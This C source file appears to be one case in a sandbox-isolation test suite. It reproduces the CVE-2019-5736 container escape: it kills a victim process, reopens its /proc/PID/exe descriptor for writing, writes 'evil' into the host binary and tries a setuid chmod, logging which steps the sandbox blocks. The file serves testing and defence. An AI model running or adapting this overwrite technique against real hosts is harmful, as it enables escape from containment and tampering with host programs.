/*
 * Writes to the program that runs us, through /proc/PID/exe: the file on the host, whatever the
 * mount namespace shows. Opening it is enough: once its process has exited the descriptor can
 * be reopened for writing, and the next start of the tool runs the attacker's code
 * (CVE-2019-5736).
 */
#include "attack.h"
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

/* ENOENT: a kernel thread or no such process. */
static const int *const by_proc = REASONS(EACCES, EPERM, ENOENT, EROFS);

/* The victim is running, so its text is busy; the attacker waits until it is not. */
static int reopen_for_writing(int fd, pid_t pid)
{
    char path[64];
    snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
    if (pid > 1)
        (void)kill(pid, SIGKILL);
    for (int i = 0; i < 200; i++) {
        int writable = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
        if (writable >= 0 || errno != ETXTBSY || pid <= 1)
            return writable;
        (void)nanosleep(&(struct timespec){ .tv_nsec = 10000000 }, NULL);
    }
    return -1;
}

static void attack(char **args)
{
    pid_t pid = args[0] ? (pid_t)number(args[0]) : 1;
    char exe[64];

    snprintf(exe, sizeof(exe), "/proc/%d/exe", pid);
    attempt("read-exe", open(exe, O_RDONLY | O_CLOEXEC), by_proc);
    int fd = open(exe, O_PATH | O_CLOEXEC);
    attempt("hold-exe", fd, by_proc);
    attempt("chmod-exe", chmod(exe, 04711), by_proc);
    if (fd < 0) {
        failed("overwrite-exe", errno, by_proc);
    } else {
        int writable = reopen_for_writing(fd, pid);
        /* Only busy: the attacker succeeds a moment later. */
        if (writable < 0 && errno == ETXTBSY)
            succeeded("overwrite-exe", "only ETXTBSY");
        else if (writable < 0)
            failed("overwrite-exe", errno, by_proc);
        else
            attempt("overwrite-exe", write(writable, "evil", 4), by_proc);
    }
    /* Our own file is in a read-only mount; no process runs it under another name. */
    attempt("chmod-self", chmod("/proc/self/exe", 0755), by_proc);
}

static void control(char **args)
{
    (void)args;
    int fd = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    char magic[4] = "";
    works("read-own-exe",
            fd >= 0 && read(fd, magic, 4) == 4 && memcmp(magic, "\177ELF", 4) == 0);
    fd = open("/tmp/own", O_CREAT | O_WRONLY | O_CLOEXEC, 0700);
    works("write-own-program", fd >= 0 && write(fd, magic, 4) == 4);
}

static void victim(char **args)
{
    (void)args;
    ready("%d", getpid());
    pause();
}

int main(int argc, char **argv)
{
    return attack_main(argc, argv,
            (struct attack_mode[]){ { "attack", attack }, { "control", control },
                    { "victim", victim }, { 0 } });
}
